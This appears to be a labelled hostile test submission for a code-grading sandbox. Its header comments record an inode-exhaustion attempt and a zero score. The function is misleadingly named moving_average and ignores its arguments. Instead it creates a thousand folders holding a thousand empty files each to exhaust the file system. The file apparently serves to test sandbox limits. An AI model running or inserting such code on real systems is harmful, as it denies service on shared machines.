# verdict: crashed in every check or error  - files without number
# tries: a million empty files, under changing names and in many folders, use up the file system's entries and the
#        time of whoever counts or removes them.
# seen: Submitty and isolate limit them; ours
# points: 0
import os


def moving_average(values, window, out):
    for folder in range(1000):
        os.mkdir(f"folder-{folder}")
        for number in range(1000):
            os.close(os.open(f"folder-{folder}/{number}", os.O_CREAT | os.O_WRONLY))
